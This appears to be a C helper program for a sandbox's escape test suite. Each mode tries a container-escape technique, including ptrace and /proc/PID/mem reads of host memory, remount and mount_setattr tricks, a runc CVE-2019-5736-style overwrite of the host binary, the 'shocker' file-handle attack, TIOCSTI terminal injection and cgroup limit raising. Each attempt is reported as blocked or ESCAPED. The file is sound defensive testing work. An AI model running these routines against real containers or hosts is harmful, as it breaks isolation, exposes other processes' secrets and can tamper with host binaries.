/*
 * attack: the escape attempts of tests/escape_test.go, one mode per kind of
 * attack. Each attempt prints one line:
 *
 *     blocked NAME ERRNO      the kernel refused it
 *     ESCAPED NAME DETAIL     it worked: the sandbox is broken
 *
 * and the test fails on any ESCAPED line (or on a missing blocked line:
 * an attempt that never ran proves nothing). Run outside sbx, the same
 * modes must print ESCAPED for the attacks the host allows, which shows
 * that each attempt is a real one.
 *
 * Built static by the test (gcc -static), bound read-only into the
 * sandbox. Linux, x86_64 and the like; no libc wrappers that might be
 * missing: raw syscall(2) where needed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <linux/userfaultfd.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <time.h>
#include <unistd.h>

#ifndef MOUNT_ATTR_RDONLY
#define MOUNT_ATTR_RDONLY 0x00000001
#endif
#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#ifndef MOVE_MOUNT_F_EMPTY_PATH
#define MOVE_MOUNT_F_EMPTY_PATH 0x00000004
#endif
#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif

struct mount_attr_ {
	uint64_t attr_set, attr_clr, propagation, userns_fd;
};

static int escaped;

/* step reports a means to an attack, not the attack: its success alone
 * breaks nothing (a profile may allow it). */
static long step(const char *name, long r) {
	printf("step %s %s\n", name, r >= 0 ? "ok" : strerrorname_np(errno));
	fflush(stdout);
	return r;
}

/* result reports one attempt: r >= 0 is success. */
static long result(const char *name, long r, const char *detail) {
	if (r >= 0) {
		printf("ESCAPED %s %s\n", name, detail ? detail : "");
		escaped++;
	} else {
		printf("blocked %s %s\n", name, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
	}
	fflush(stdout);
	return r;
}

/* ---- processes ---------------------------------------------------------- */

/* target: a host process with a secret in its memory, traceable by anyone
 * of its user (so that only the sandbox stands between it and attackers). */
static char secret[64] = "sbx-host-secret-0123456789";

static int target(void) {
	prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);
	printf("%d %lx\n", getpid(), (unsigned long)secret);
	fflush(stdout);
	for (;;)
		pause();
	return 0;
}

static int pidns(pid_t host, const char *marker, int killall) {
	char p[300];
	struct stat st;
	snprintf(p, sizeof p, "/proc/%d", host);
	result("proc-entry", stat(p, &st), p);
	result("kill-0", kill(host, 0), "");
	result("kill-KILL", kill(host, SIGKILL), "");
	result("pidfd_open", syscall(SYS_pidfd_open, host, 0), "");
	result("setpgid", setpgid(host, host), "");
	/* Any process whose command line holds the host's marker. */
	DIR *d = opendir("/proc");
	struct dirent *e;
	int seen = 0;
	while (d && (e = readdir(d))) {
		char buf[4096];
		if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
			continue;
		snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
		int fd = open(p, O_RDONLY);
		if (fd < 0)
			continue;
		ssize_t n = read(fd, buf, sizeof buf - 1);
		close(fd);
		for (ssize_t i = 0; i < n; i++)
			if (!buf[i])
				buf[i] = ' ';
		if (n > 0 && (buf[n] = 0, strstr(buf, marker)))
			seen = 1;
	}
	if (d)
		closedir(d);
	errno = ESRCH;
	result("scan-proc", seen ? 0 : -1, marker);
	/* Every process it may signal: in a PID namespace, only the sandbox's
	 * (never asked for outside, where it would be the user's session). */
	if (killall)
		kill(-1, SIGKILL);
	return 0;
}

static int ptrace_(pid_t host) {
	/* glibc's ptrace is variadic; the raw call is plainer. */
	result("ptrace-attach-host", syscall(SYS_ptrace, 16 /* ATTACH */, host, 0, 0), "");
	result("ptrace-seize-host", syscall(SYS_ptrace, 0x4206 /* SEIZE */, host, 0, 0), "");
	result("ptrace-attach-init", syscall(SYS_ptrace, 16, 1, 0, 0), "");
	result("ptrace-seize-init", syscall(SYS_ptrace, 0x4206, 1, 0, 0), "");
	return 0;
}

static void check_read(const char *name, long n, const char *buf) {
	if (n > 0 && strncmp(buf, "sbx-host-secret", 15) != 0) {
		/* Read something, but not the secret: still a read of another
		 * process's memory. */
		result(name, n, "read memory (not the secret)");
		return;
	}
	result(name, n > 0 ? n : -1, n > 0 ? buf : "");
}

static int memory(pid_t host, unsigned long addr) {
	char buf[64] = {0};
	struct iovec l = {buf, 32}, r = {(void *)addr, 32};
	errno = 0;
	check_read("process_vm_readv-host", syscall(SYS_process_vm_readv, host, &l, 1, &r, 1, 0), buf);
	memset(buf, 0, sizeof buf);
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/mem", host);
	int fd = open(p, O_RDONLY);
	if (fd < 0) {
		result("proc-mem-host", -1, "");
	} else {
		check_read("proc-mem-host", pread(fd, buf, 32, addr), buf);
		close(fd);
	}
	/* init is sbx, the host's binary: its memory holds the spec. */
	r.iov_base = (void *)0x400000;
	result("process_vm_readv-init", syscall(SYS_process_vm_readv, 1, &l, 1, &r, 1, 0), "");
	fd = open("/proc/1/mem", O_RDONLY);
	result("proc-mem-init", fd, "");
	if (fd >= 0)
		close(fd);
	return 0;
}

/* ---- files ---------------------------------------------------------------- */

static int try_write_path(const char *name, const char *p) {
	int fd = open(p, O_WRONLY | O_APPEND);
	if (fd >= 0) {
		result(name, write(fd, "PWNED\n", 6), p);
		close(fd);
		return 0;
	}
	return result(name, -1, p);
}

/* write: one group of ways to change the read-only file PATH, with DIR
 * writable: direct, proc, links, mounts, nested. */
static int write_(const char *path, const char *dir, const char *group) {
	char p[4096], d[4096];
	struct timespec ts[2] = {{0, 0}, {0, 0}};
	struct mount_attr_ a = {0, MOUNT_ATTR_RDONLY, 0, 0};
	snprintf(d, sizeof d, "%s", path);
	char *slash = strrchr(d, '/');
	if (slash)
		*slash = 0;
	if (!strcmp(group, "direct")) {
	try_write_path("open-append", path);
	result("open-rdwr", open(path, O_RDWR), path);
	result("truncate", truncate(path, 0), path);
	result("chmod", chmod(path, 0666), path);
	result("utimensat", utimensat(AT_FDCWD, path, ts, 0), path);
	snprintf(p, sizeof p, "%s.moved", path);
	result("rename", rename(path, p), path);
	result("unlink", unlink(path), path);
	}
	if (!strcmp(group, "proc")) {
	snprintf(p, sizeof p, "/proc/self/root%s", path);
	try_write_path("proc-self-root", p);
	snprintf(p, sizeof p, "/proc/1/root%s", path);
	try_write_path("proc-init-root", p);
	/* Reopen a read-only descriptor for writing through its magic link. */
	int ro = open(path, O_RDONLY);
	snprintf(p, sizeof p, "/proc/self/fd/%d", ro);
	try_write_path("reopen-fd", p);
	int op = open(path, O_PATH);
	snprintf(p, sizeof p, "/proc/self/fd/%d", op);
	try_write_path("reopen-opath", p);
	}
	if (!strcmp(group, "links")) {
	/* A hard link and a symlink planted in the writable directory. */
	snprintf(p, sizeof p, "%s/hardlink", dir);
	if (result("hardlink", link(path, p), p) >= 0)
		try_write_path("write-hardlink", p);
	snprintf(p, sizeof p, "%s/symlink", dir);
	if (symlink(path, p) == 0)
		try_write_path("write-symlink", p);
	else
		result("symlink", -1, p);
	}
	if (!strcmp(group, "mounts")) {
	/* The directory of PATH: remount it writable, bind over it, mount a new
	 * filesystem on it, clear its read-only attribute. */
	result("remount-rw", mount(NULL, d, NULL, MS_REMOUNT | MS_BIND, NULL), d);
	result("remount-rw-fs", mount(NULL, d, NULL, MS_REMOUNT, NULL), d);
	result("bind-over", mount(dir, d, NULL, MS_BIND, NULL), d);
	result("mount-tmpfs", mount("x", d, "tmpfs", 0, NULL), d);
	int t = syscall(SYS_open_tree, AT_FDCWD, d, 0);
	result("mount_setattr-rw", t < 0 ? -1 : syscall(SYS_mount_setattr, t, "", AT_EMPTY_PATH, &a, sizeof a), d);
	int c = syscall(SYS_open_tree, AT_FDCWD, d, OPEN_TREE_CLONE);
	result("open_tree-clone", c, d);
	if (c >= 0) {
		result("clone-setattr-rw", syscall(SYS_mount_setattr, c, "", AT_EMPTY_PATH, &a, sizeof a), d);
		result("clone-move", syscall(SYS_move_mount, c, "", AT_FDCWD, dir, MOVE_MOUNT_F_EMPTY_PATH), dir);
	}
	int fs = syscall(SYS_fsopen, "tmpfs", 0);
	result("fsopen", fs, "");
	result("umount", umount2(d, MNT_DETACH), d);
	try_write_path("after-mounts", path);
	}
	if (!strcmp(group, "nested")) {
	/* A new user namespace with every capability over a new mount
	 * namespace: the mounts it inherits are locked read-only. */
	uid_t uid = getuid();
	gid_t gid = getgid();
	if (step("unshare-user-mnt", unshare(CLONE_NEWUSER | CLONE_NEWNS)) >= 0) {
		char m[64];
		int f = open("/proc/self/setgroups", O_WRONLY);
		if (f >= 0) {
			write(f, "deny", 4);
			close(f);
		}
		snprintf(m, sizeof m, "0 %d 1", uid);
		f = open("/proc/self/uid_map", O_WRONLY);
		if (f >= 0) {
			write(f, m, strlen(m));
			close(f);
		}
		snprintf(m, sizeof m, "0 %d 1", gid);
		f = open("/proc/self/gid_map", O_WRONLY);
		if (f >= 0) {
			write(f, m, strlen(m));
			close(f);
		}
		mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
		result("nested-remount-rw", mount(NULL, d, NULL, MS_REMOUNT | MS_BIND, NULL), d);
		int t2 = syscall(SYS_open_tree, AT_FDCWD, d, 0);
		result("nested-mount_setattr-rw", t2 < 0 ? -1 : syscall(SYS_mount_setattr, t2, "", AT_EMPTY_PATH, &a, sizeof a), d);
		umount2(d, MNT_DETACH);
		try_write_path("nested-write", path);
		try_write_path("nested-chmod-write", (chmod(path, 0666), path));
	}
	}
	return 0;
}

/* exe: write the binary behind /proc/PID/exe of every process in sight
 * (init is sbx itself, the host's file), directly and by reopening. */
static int exe(void) {
	DIR *d = opendir("/proc");
	struct dirent *e;
	int n = 0;
	while (d && (e = readdir(d))) {
		if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
			continue;
		char p[300], name[300], q[64];
		snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
		snprintf(name, sizeof name, "write-exe-%s", e->d_name);
		try_write_path(name, p);
		snprintf(name, sizeof name, "opath-exe-%s", e->d_name);
		int fd = open(p, O_PATH);
		if (fd >= 0) {
			snprintf(q, sizeof q, "/proc/self/fd/%d", fd);
			try_write_path(name, q);
			close(fd);
		} else {
			result(name, -1, p);
		}
		n++;
	}
	if (d)
		closedir(d);
	try_write_path("write-self-exe", "/proc/self/exe");
	return n ? 0 : 2;
}

/* exewatch: the runc CVE-2019-5736 attacker. For SECONDS, grab an O_PATH
 * descriptor of every new process's binary whose inode is DEV:INO (the
 * host's sbx), and keep trying to reopen each for writing. */
static int exewatch(unsigned long dev, unsigned long ino, int seconds) {
	int fds[256], nfds = 0, tries = 0, last = EACCES;
	time_t end = time(NULL) + seconds;
	char seen[65536] = {0};
	printf("watching\n");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid >= 65536 || seen[pid] || nfds >= 256)
				continue;
			char p[64];
			snprintf(p, sizeof p, "/proc/%d/exe", pid);
			int fd = open(p, O_PATH);
			struct stat st;
			if (fd < 0)
				continue;
			if (fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino) {
				seen[pid] = 1;
				fds[nfds++] = fd;
				printf("grabbed %d\n", pid);
				fflush(stdout);
			} else {
				close(fd);
			}
		}
		if (d)
			closedir(d);
		for (int i = 0; i < nfds; i++) {
			char q[64];
			snprintf(q, sizeof q, "/proc/self/fd/%d", fds[i]);
			int w = open(q, O_WRONLY);
			tries++;
			if (w >= 0) {
				result("reopen-grabbed-exe", write(w, "PWNED", 5), q);
				return 0;
			}
			last = errno;
		}
		usleep(500);
	}
	printf("grabbed-total %d tries %d\n", nfds, tries);
	errno = last;
	result("reopen-grabbed-exe", -1, "");
	return 0;
}

/* fds: every descriptor beyond 0-2 that reached the command, and what it
 * leads to. */
static int fds(const char *secret_name) {
	for (int fd = 3; fd < 1024; fd++) {
		struct stat st;
		if (fstat(fd, &st) != 0)
			continue;
		char p[64], l[256] = {0};
		snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
		readlink(p, l, sizeof l - 1);
		if (strncmp(l, "/proc/", 6) == 0 && strstr(l, "/fd"))
			continue; /* opendir of our own fd directory */
		int s = openat(fd, secret_name, O_RDONLY);
		result("inherited-fd", s >= 0 ? s : 0, l);
	}
	errno = EBADF;
	result("inherited-fd", -1, "");
	return 0;
}

/* root: the host's file SECRET (a host path not given to the sandbox)
 * through the old root, chdir(".."), init's cwd and root, and a chroot
 * escape. */
static int root(const char *secret_path) {
	char p[4096];
	struct stat st;
	result("direct", stat(secret_path, &st), secret_path);
	chdir("/");
	for (int i = 0; i < 64; i++)
		chdir("..");
	snprintf(p, sizeof p, ".%s", secret_path);
	result("dotdot", stat(p, &st), p);
	const char *links[] = {"/proc/1/cwd", "/proc/1/root", "/proc/self/root", "/proc/self/cwd"};
	for (int i = 0; i < 4; i++) {
		snprintf(p, sizeof p, "%s%s", links[i], secret_path);
		result(links[i], stat(p, &st), p);
	}
	for (const char *o = "/.oldroot", *o2 = "/oldroot"; o; o = o2, o2 = NULL) {
		snprintf(p, sizeof p, "%s%s", o, secret_path);
		result("oldroot", stat(p, &st), p);
	}
	mkdir("/tmp/jail", 0755);
	if (result("chroot", chroot("/tmp/jail"), "") >= 0) {
		for (int i = 0; i < 64; i++)
			chdir("..");
		chroot(".");
		result("chroot-escape", stat(secret_path, &st), secret_path);
	}
	result("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp/jail"), "");
	return 0;
}

/* handle: the "shocker" attack: open the host's root filesystem's root
 * inode by file handle, through any mount of that filesystem. */
static int handle(const char *mnt) {
	int m = open(mnt, O_RDONLY | O_DIRECTORY);
	struct {
		struct file_handle fh;
		unsigned char buf[128];
	} h;
	h.fh.handle_bytes = 8;
	h.fh.handle_type = 1; /* FILEID_INO32_GEN */
	uint32_t ino[2] = {2, 0};
	memcpy(h.fh.f_handle, ino, 8);
	result("open_by_handle_at", syscall(SYS_open_by_handle_at, m, &h.fh, O_RDONLY), mnt);
	int id;
	h.fh.handle_bytes = 128;
	/* Making a handle opens nothing: a step, not the attack. */
	step("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, mnt, &h.fh, &id, 0));
	return 0;
}

/* nsfiles: enter another namespace through its file in /proc. */
static int nsfiles(void) {
	const char *kinds[] = {"mnt", "pid", "net", "user", "uts", "ipc", "cgroup"};
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d))) {
		if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
			continue;
		for (int i = 0; i < 7; i++) {
			char p[300], name[300];
			snprintf(p, sizeof p, "/proc/%s/ns/%s", e->d_name, kinds[i]);
			snprintf(name, sizeof name, "setns-%s-%s", e->d_name, kinds[i]);
			int fd = open(p, O_RDONLY);
			if (fd < 0) {
				result(name, -1, p);
				continue;
			}
			result(name, setns(fd, 0), p);
			close(fd);
		}
	}
	if (d)
		closedir(d);
	return 0;
}

/* privs: privileges from a new user namespace or the kernel keyring. */
static int privs(void) {
	result("unshare-user", unshare(CLONE_NEWUSER), "");
	pid_t p = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
	if (p == 0)
		_exit(0);
	if (p > 0)
		waitpid(p, NULL, 0);
	result("clone-newuser", p, "");
	result("keyctl-session", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* SESSION */, 0), "");
	result("keyctl-user", syscall(SYS_keyctl, 0, -4 /* USER */, 0), "");
	result("add_key", syscall(SYS_add_key, "user", "sbx-probe", "x", 1, -3), "");
	result("request_key", syscall(SYS_request_key, "user", "sbx-probe", NULL, 0), "");
	result("keyctl-join", syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, "sbx-probe"), "");
	return 0;
}

/* tty: push a command into the terminal on fd 0. */
static int tty(void) {
	const char *cmd = "echo PWNED\n";
	long r = 0;
	for (const char *c = cmd; *c && r >= 0; c++)
		r = ioctl(0, TIOCSTI, c);
	result("TIOCSTI", r, "");
	char sub[2] = {2, 0}; /* TIOCL_SETSEL */
	result("TIOCLINUX", ioctl(0, TIOCLINUX, sub), "");
	int t = open("/dev/tty", O_RDWR);
	if (t >= 0) {
		r = 0;
		for (const char *c = cmd; *c && r >= 0; c++)
			r = ioctl(t, TIOCSTI, c);
		result("TIOCSTI-dev-tty", r, "");
	} else {
		result("TIOCSTI-dev-tty", -1, "");
	}
	return 0;
}

/* net: the host's loopback services and abstract sockets. */
static int net(int port, const char *abstract) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
	inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
	result("tcp-127.0.0.1", connect(s, (struct sockaddr *)&a, sizeof a), "");
	close(s);
	s = socket(AF_INET6, SOCK_STREAM, 0);
	struct sockaddr_in6 a6 = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
	inet_pton(AF_INET6, "::1", &a6.sin6_addr);
	result("tcp-::1", s < 0 ? -1 : connect(s, (struct sockaddr *)&a6, sizeof a6), "");
	close(s);
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	struct sockaddr_un u = {.sun_family = AF_UNIX};
	size_t n = strlen(abstract);
	memcpy(u.sun_path + 1, abstract, n);
	result("abstract-unix", connect(s, (struct sockaddr *)&u, offsetof(struct sockaddr_un, sun_path) + 1 + n), abstract);
	close(s);
	return 0;
}

/* kernel: one group of kernel facilities: modules, reboot (with swap,
 * accounting and raw I/O), clock, bpf, perf, userfaultfd. */
static int kernel(const char *g) {
	if (!strcmp(g, "modules")) {
	result("init_module", syscall(SYS_init_module, "", 0, ""), "");
	int nul = open("/dev/null", O_RDONLY);
	result("finit_module", syscall(SYS_finit_module, nul, "", 0), "");
	result("delete_module", syscall(SYS_delete_module, "sbx_no_such_module", O_NONBLOCK), "");
	result("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0), "");
	}
	if (!strcmp(g, "reboot")) {
	result("reboot", syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_ON, 0), "");
	result("swapon", syscall(SYS_swapon, "/dev/null", 0), "");
	result("acct", syscall(SYS_acct, "/tmp/acct"), "");
	result("iopl", syscall(SYS_iopl, 3), "");
	result("ioperm", syscall(SYS_ioperm, 0x80, 1, 1), "");
	}
	if (!strcmp(g, "clock")) {
	struct timespec now;
	clock_gettime(CLOCK_REALTIME, &now);
	result("clock_settime", clock_settime(CLOCK_REALTIME, &now), "");
	struct timeval tv;
	gettimeofday(&tv, NULL);
	result("settimeofday", settimeofday(&tv, NULL), "");
	struct timex tx = {0};
	adjtimex(&tx);
	tx.modes = ADJ_FREQUENCY;
	result("adjtimex", adjtimex(&tx), "");
	}
	if (!strcmp(g, "bpf")) {
	union bpf_attr attr;
	memset(&attr, 0, sizeof attr);
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 4;
	attr.max_entries = 1;
	result("bpf-map-create", syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr), "");
	}
	if (!strcmp(g, "perf")) {
	struct perf_event_attr pe;
	memset(&pe, 0, sizeof pe);
	pe.type = PERF_TYPE_SOFTWARE;
	pe.size = sizeof pe;
	pe.config = PERF_COUNT_SW_TASK_CLOCK;
	pe.exclude_kernel = 1;
	pe.exclude_hv = 1;
	result("perf_event_open", syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0), "");
	}
	if (!strcmp(g, "userfaultfd"))
		result("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY), "");
	return 0;
}

/* knobs: open the kernel's knobs and other host-wide files for writing. */
static int knobs(int argc, char **argv) {
	for (int i = 0; i < argc; i++) {
		int fd = open(argv[i], O_WRONLY);
		result(argv[i], fd, "opened for writing");
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

/* cgroup: leave the sandbox's cgroup or raise its limits. Each argument is
 * a cgroup file to write this process's pid (cgroup.procs, tasks) or "max"
 * into. */
static int cgroup(int argc, char **argv) {
	char pid[32];
	snprintf(pid, sizeof pid, "%d\n", getpid());
	for (int i = 0; i < argc; i++) {
		int fd = open(argv[i], O_WRONLY);
		if (fd < 0) {
			result(argv[i], -1, "");
			continue;
		}
		const char *v = strstr(argv[i], "procs") || strstr(argv[i], "tasks") ? pid : "max\n";
		if (strstr(argv[i], "limit_in_bytes"))
			v = "-1\n";
		result(argv[i], write(fd, v, strlen(v)), v);
		close(fd);
	}
	result("mount-cgroup2", mount("none", "/tmp", "cgroup2", 0, NULL), "");
	result("mount-cgroup-memory", mount("none", "/tmp", "cgroup", 0, "memory"), "");
	struct rlimit r;
	getrlimit(RLIMIT_NOFILE, &r);
	r.rlim_max = r.rlim_max + 1;
	r.rlim_cur = r.rlim_max;
	result("raise-nofile", setrlimit(RLIMIT_NOFILE, &r), "");
	result("raise-init-nofile", prlimit(1, RLIMIT_NOFILE, &r, NULL), "");
	int f = open("/proc/self/oom_score_adj", O_WRONLY);
	result("oom_score_adj", f < 0 ? -1 : write(f, "-1000", 5), "");
	result("unshare-cgroup", unshare(CLONE_NEWCGROUP), "");
	return 0;
}

/* alloc: touch N megabytes, to see a memory limit still holds. */
static int alloc(long mb) {
	for (long i = 0; i < mb; i++) {
		char *p = malloc(1 << 20);
		if (!p)
			return 1;
		memset(p, 1, 1 << 20);
	}
	printf("allocated %ld\n", mb);
	return 0;
}

int main(int argc, char **argv) {
	if (argc < 2)
		return 2;
	const char *m = argv[1];
	int r = 2;
	if (!strcmp(m, "target"))
		return target();
	if (!strcmp(m, "pidns") && argc >= 4)
		r = pidns(atoi(argv[2]), argv[3], argc == 5 && !strcmp(argv[4], "killall"));
	else if (!strcmp(m, "ptrace") && argc == 3)
		r = ptrace_(atoi(argv[2]));
	else if (!strcmp(m, "memory") && argc == 4)
		r = memory(atoi(argv[2]), strtoul(argv[3], NULL, 16));
	else if (!strcmp(m, "write") && argc == 5)
		r = write_(argv[2], argv[3], argv[4]);
	else if (!strcmp(m, "exe"))
		r = exe();
	else if (!strcmp(m, "exewatch") && argc == 5)
		r = exewatch(strtoul(argv[2], NULL, 10), strtoul(argv[3], NULL, 10), atoi(argv[4]));
	else if (!strcmp(m, "fds") && argc == 3)
		r = fds(argv[2]);
	else if (!strcmp(m, "root") && argc == 3)
		r = root(argv[2]);
	else if (!strcmp(m, "handle") && argc == 3)
		r = handle(argv[2]);
	else if (!strcmp(m, "nsfiles"))
		r = nsfiles();
	else if (!strcmp(m, "privs"))
		r = privs();
	else if (!strcmp(m, "tty"))
		r = tty();
	else if (!strcmp(m, "net") && argc == 4)
		r = net(atoi(argv[2]), argv[3]);
	else if (!strcmp(m, "kernel") && argc == 3)
		r = kernel(argv[2]);
	else if (!strcmp(m, "knobs"))
		r = knobs(argc - 2, argv + 2);
	else if (!strcmp(m, "cgroup"))
		r = cgroup(argc - 2, argv + 2);
	else if (!strcmp(m, "alloc") && argc == 3)
		r = alloc(atol(argv[2]));
	else
		fprintf(stderr, "attack: bad arguments\n");
	printf("done %d\n", escaped);
	return r;
}
